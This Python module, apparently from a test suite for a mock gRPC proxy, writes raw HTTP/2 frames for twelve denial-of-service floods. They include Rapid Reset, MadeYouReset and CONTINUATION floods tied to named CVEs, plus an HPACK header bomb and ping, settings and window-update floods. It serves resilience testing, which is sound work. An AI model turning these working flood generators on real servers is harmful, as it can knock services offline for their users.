"""Floods: endless series of moves, each a few HTTP/2 frames that cost a client next to nothing.

The frames are written as bytes, because no library sends such frames.
"""

import itertools
from collections.abc import Callable, Iterator
from typing import Any, Final

from hpack import Encoder

from mocketmq.grpc_proxy.frames import (
    END_HEADERS,
    END_STREAM,
    MAX_WINDOW,
    Frame,
    Http2Code,
    Http2Setting,
    frame,
    settings_frame,
)
from mocketmq.grpc_proxy.messages import message_class
from tests.hostile.http2 import framed, headers_of

LARGE: Final = "large"
"""The topic whose bodies `tiny-windows` receives."""

_NAMED_TIMES: Final = 16_000


def _block(rpc: str, **more: str) -> bytes:
    """Return a request's headers, none of them indexed, so that the block can be sent any number of times."""
    headers = (headers_of(rpc) | more).items()
    return bytes(Encoder().encode([(name, value, True) for name, value in headers]))


_SENDING: Final = _block("SendMessage")
_RECEIVING: Final = _block("ReceiveMessage")


def _opened(stream: int, flags: int = END_HEADERS) -> bytes:
    return frame(Frame.HEADERS, flags, stream, _SENDING)


def received(stream: int, topic: str, wait_s: int, group: str = "hostile") -> bytes:
    """Return the frames of a ReceiveMessage."""
    request = message_class("ReceiveMessageRequest")(group={"name": group}, batch_size=32)
    request.message_queue.topic.name = topic
    request.invisible_duration.seconds = 10
    request.long_polling_timeout.seconds = wait_s
    headers = frame(Frame.HEADERS, END_HEADERS, stream, _RECEIVING)
    return headers + frame(Frame.DATA, END_STREAM, stream, framed(request))


def sent(stream: int, request: Any) -> bytes:
    """Return the frames of a SendMessage."""
    return _opened(stream) + frame(Frame.DATA, END_STREAM, stream, framed(request))


def _reset(stream: int) -> bytes:
    return frame(Frame.RST_STREAM, 0, stream, Http2Code.CANCEL.to_bytes(4, "big"))


def _window(stream: int, increment: int) -> bytes:
    return frame(Frame.WINDOW_UPDATE, 0, stream, increment.to_bytes(4, "big"))


def _streams() -> Iterator[int]:
    return itertools.count(1, 2)


def _rapid_reset() -> Iterator[bytes]:
    """CVE-2023-44487."""
    return (_opened(stream) + _reset(stream) for stream in _streams())


def _reset_polls() -> Iterator[bytes]:
    return (received(stream, "empty", wait_s=20) + _reset(stream) for stream in _streams())


def _made_you_reset() -> Iterator[bytes]:
    """CVE-2025-8671: make the server reset streams, by windows of 0 or too wide, or by late DATA."""
    for stream in itertools.count(1, 6):
        yield _opened(stream) + _window(stream, 0)
        yield _opened(stream + 2) + _window(stream + 2, MAX_WINDOW)
        yield received(stream + 4, "empty", wait_s=20) + frame(Frame.DATA, 0, stream + 4, b"x")


def _open_streams() -> Iterator[bytes]:
    return (_opened(stream) for stream in _streams())


def _settings() -> Iterator[bytes]:
    return itertools.repeat(settings_frame({Http2Setting.INITIAL_WINDOW_SIZE: 1}))


def _ping() -> Iterator[bytes]:
    return itertools.repeat(frame(Frame.PING, 0, 0, bytes(8)))


def _priority() -> Iterator[bytes]:
    return (frame(Frame.PRIORITY, 0, stream, bytes(5)) for stream in _streams())


def _empty_data() -> Iterator[bytes]:
    return itertools.chain([_opened(1)], itertools.repeat(frame(Frame.DATA, 0, 1)))


def _continuation() -> Iterator[bytes]:
    """CVE-2024-27316: headers without an end."""
    more = frame(Frame.CONTINUATION, 0, 1, _block("SendMessage"))
    return itertools.chain([_opened(1, flags=0)], itertools.repeat(more))


def _window_update() -> Iterator[bytes]:
    return itertools.chain([_opened(1)], itertools.repeat(_window(0, 1) + _window(1, 1)))


def _tiny_windows() -> Iterator[bytes]:
    """Large messages, read byte by byte."""
    streams = range(1, 64, 2)
    return itertools.chain(
        [settings_frame({Http2Setting.INITIAL_WINDOW_SIZE: 1})],
        (received(stream, LARGE, wait_s=0) for stream in streams),
        (_window(stream, 1) for stream in itertools.cycle(streams)),
    )


def _header_bomb() -> Iterator[bytes]:
    """A 3 KB header enters the table. Each further stream refers to it 16,000 times, a byte each: 48 MB."""
    name, value = b"\x40\x01x", b"\x7f\xb9\x16" + b"a" * 3_000
    return itertools.chain(
        [frame(Frame.HEADERS, END_HEADERS, 1, _SENDING + name + value)],
        (
            frame(Frame.HEADERS, END_HEADERS, stream, _SENDING + b"\xbe" * _NAMED_TIMES)
            for stream in itertools.count(3, 2)
        ),
    )


FLOODS: Final[dict[str, Callable[[], Iterator[bytes]]]] = {
    "rapid-reset": _rapid_reset,
    "reset-polls": _reset_polls,
    "made-you-reset": _made_you_reset,
    "open-streams": _open_streams,
    "settings": _settings,
    "ping": _ping,
    "priority": _priority,
    "empty-data": _empty_data,
    "continuation": _continuation,
    "window-update": _window_update,
    "tiny-windows": _tiny_windows,
    "header-bomb": _header_bomb,
}
